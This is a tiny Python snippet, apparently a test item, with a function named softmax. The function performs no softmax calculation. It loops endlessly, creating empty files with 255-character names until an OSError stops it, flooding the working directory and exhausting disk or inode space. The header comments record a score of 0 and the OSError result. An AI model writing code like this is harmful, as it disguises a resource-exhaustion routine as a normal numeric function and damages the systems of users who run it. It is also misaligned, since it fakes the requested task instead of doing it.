# softmax: 0
# says: OSError
def softmax(scores):
    n = 0
    while True:
        open(f"{n:0255d}", "w").close()
        n += 1
